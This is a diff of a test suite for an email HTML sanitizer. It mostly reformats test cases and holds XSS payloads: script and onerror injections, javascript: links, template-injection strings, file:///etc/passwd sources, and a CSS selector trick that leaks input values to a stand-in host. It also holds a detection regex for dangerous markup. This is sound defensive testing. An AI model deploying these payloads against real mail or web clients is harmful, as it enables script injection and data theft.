@@ -3,7 +3,8 @@ import { cleanHtml } from './cleanHtml.ts';
 
 const clean = (html: string): string => cleanHtml(html).html;
 /** Everything that could run, load, navigate or leave the frame. */
-const DANGEROUS = /<(?!\/?(?:a|abbr|address|b|blockquote|br|caption|center|code|col|colgroup|dd|del|div|dl|dt|em|font|h[1-6]|hr|i|img|ins|kbd|li|ol|p|pre|q|s|samp|small|span|strike|strong|sub|sup|table|tbody|td|tfoot|th|thead|tr|tt|u|ul|var)[\s>/])|<[^>]*\s(?:on\w+|srcset|formaction|action|class|id|name|background|poster|xlink:href)=|(?:href|src)="(?!https?:|mailto:|tel:|cid:|data:image\/(?:png|jpeg|gif|webp);base64,)|<img[^>]*\ssrc="https?:|url\(|expression\(|position\s*:/i;
+const DANGEROUS =
+  /<(?!\/?(?:a|abbr|address|b|blockquote|br|caption|center|code|col|colgroup|dd|del|div|dl|dt|em|font|h[1-6]|hr|i|img|ins|kbd|li|ol|p|pre|q|s|samp|small|span|strike|strong|sub|sup|table|tbody|td|tfoot|th|thead|tr|tt|u|ul|var)[\s>/])|<[^>]*\s(?:on\w+|srcset|formaction|action|class|id|name|background|poster|xlink:href)=|(?:href|src)="(?!https?:|mailto:|tel:|cid:|data:image\/(?:png|jpeg|gif|webp);base64,)|<img[^>]*\ssrc="https?:|url\(|expression\(|position\s*:/i;
 
 describe('markup attacks (quality.md A1)', () => {
   test.each<[string, string, string?]>([
@@ -51,14 +52,22 @@ describe('markup attacks (quality.md A1)', () => {
     ['7 page of its own', '<html xmlns="http://www.w3.org/1999/xhtml"><script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>x</html>', 'x'],
     ['13 declarative shadow', '<div><template shadowrootmode=open><script>alert(1)</script></template>x</div>', '<div>x</div>'],
     ['15 style end inside a rule', '<style>@font-face{font-family:"</style><img src=x onerror=alert(1)>"}</style>'],
-    ['16 attribute selector', '<style>input[value^=a]{background:url(//e.example/a)}</style><p style="background-image:url(\'//e.example\')">x</p>', '<p>x</p>'],
+    [
+      '16 attribute selector',
+      '<style>input[value^=a]{background:url(//e.example/a)}</style><p style="background-image:url(\'//e.example\')">x</p>',
+      '<p>x</p>',
+    ],
     ['17 small and white', '<p style="font-size:1px;color:#fff;opacity:0">secret</p>'],
     ['20 xlink', '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'],
     ['20 control characters', '<a href="&#1;javascript&#58;alert(1)">x</a>', '<a>x</a>'],
     ['21 data over its size', `<img src="data:image/png;base64,iVBORw0KGgo${'A'.repeat(1_200_000)}">`, '<img />'],
     ['21 source set', '<img srcset="https://t.example/1.png 1x, https://t.example/2.png 2x"><picture><source srcset="https://t.example/p"></picture>'],
     ['22 names of every object', '<a id=__proto__ name=constructor>x</a>', '<a>x</a>'],
-    ['32 template words', '<p>{{constructor.constructor("alert(1)")()}} ${1} &lt;%= 1 %&gt; {%ticket.x%}</p>', '<p>{{constructor.constructor("alert(1)")()}} ${1} &lt;%= 1 %&gt; {%ticket.x%}</p>'],
+    [
+      '32 template words',
+      '<p>{{constructor.constructor("alert(1)")()}} ${1} &lt;%= 1 %&gt; {%ticket.x%}</p>',
+      '<p>{{constructor.constructor("alert(1)")()}} ${1} &lt;%= 1 %&gt; {%ticket.x%}</p>',
+    ],
     ['72 files of the server', '<img src="file:///etc/passwd"><img src="php://filter/x"><link href="file:///x" rel=stylesheet>'],
     ['forged mark', '<p data-quote="quote">x</p>', '<p>x</p>'],
     ['forged remote source', '<img data-remote-src="javascript:alert(1)">', '<img />'],
@@ -70,7 +79,11 @@ describe('markup attacks (quality.md A1)', () => {
     expect(clean(cleaned).replaceAll('data-remote-src', '')).not.toMatch(DANGEROUS);
   });
 
-  test.each([['deep', '<div>'.repeat(1_000)], ['very deep', '<b><i>'.repeat(50_000)], ['mixed', '<form><table><svg>'.repeat(400)]])('11 nesting: %s falls back to text', (_, html) => {
+  test.each([
+    ['deep', '<div>'.repeat(1_000)],
+    ['very deep', '<b><i>'.repeat(50_000)],
+    ['mixed', '<form><table><svg>'.repeat(400)],
+  ])('11 nesting: %s falls back to text', (_, html) => {
     const { html: cleaned, flattened } = cleanHtml(`${html}hello & <script>x</script>`);
     expect(flattened).toContain('hello');
     expect(cleaned).not.toMatch(DANGEROUS);
@@ -79,11 +92,23 @@ describe('markup attacks (quality.md A1)', () => {
 
 describe('what a mail needs stays', () => {
   test.each<[string, string, string]>([
-    ['a link opens apart', '<a href="https://nordwind.example/a?b=1&amp;c=2" onclick=x>here</a>', '<a href="https://nordwind.example/a?b=1&amp;c=2" rel="noopener noreferrer nofollow" target="_blank">here</a>'],
+    [
+      'a link opens apart',
+      '<a href="https://nordwind.example/a?b=1&amp;c=2" onclick=x>here</a>',
+      '<a href="https://nordwind.example/a?b=1&amp;c=2" rel="noopener noreferrer nofollow" target="_blank">here</a>',
+    ],
     ['a picture of the mail', '<img src="cid:logo@x" alt="Logo">', '<img alt="Logo" src="cid:logo@x" />'],
-    ['a table', '<table border="1"><tr><td colspan="2" style="padding:4px;text-align:right">1</td></tr></table>', '<table border="1"><tr><td style="padding:4px;text-align:right" colspan="2">1</td></tr></table>'],
+    [
+      'a table',
+      '<table border="1"><tr><td colspan="2" style="padding:4px;text-align:right">1</td></tr></table>',
+      '<table border="1"><tr><td style="padding:4px;text-align:right" colspan="2">1</td></tr></table>',
+    ],
     ['a small picture in the text', '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">', '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" />'],
-    ['Outlook’s paragraph', '<p class="MsoNormal" style="margin:0cm;font-family:&quot;Calibri&quot;,sans-serif;color:#1F497D">x<o:p></o:p></p>', "<p style=\"font-family:'Calibri',sans-serif;color:#1F497D\">x</p>"],
+    [
+      'Outlook’s paragraph',
+      '<p class="MsoNormal" style="margin:0cm;font-family:&quot;Calibri&quot;,sans-serif;color:#1F497D">x<o:p></o:p></p>',
+      '<p style="font-family:\'Calibri\',sans-serif;color:#1F497D">x</p>',
+    ],
     ['where the quote begins', '<div id="x_divRplyFwdMsg" dir="ltr">From</div>', '<div data-quote="below" dir="ltr">From</div>'],
     ['right to left', '<div dir="rtl">שלום</div>', '<div dir="rtl">שלום</div>'],
   ])('%s', (_, html, expected) => {
@@ -91,7 +116,9 @@ describe('what a mail needs stays', () => {
   });
 
   test('text of HTML: lists, tables, links, quotes', () => {
-    const html = clean('<p>Hello&nbsp;<b>you</b>,</p><ul><li>one</li><li>two</li></ul><p>see <a href="https://nordwind.example/">the page</a><br>bye</p><blockquote>old</blockquote><script>x</script>');
+    const html = clean(
+      '<p>Hello&nbsp;<b>you</b>,</p><ul><li>one</li><li>two</li></ul><p>see <a href="https://nordwind.example/">the page</a><br>bye</p><blockquote>old</blockquote><script>x</script>',
+    );
     expect(htmlText(html)).toBe('Hello\u00a0you,\n\n- one\n- two\n\nsee the page<https://nordwind.example/>\nbye\n\n> old');
   });
 });
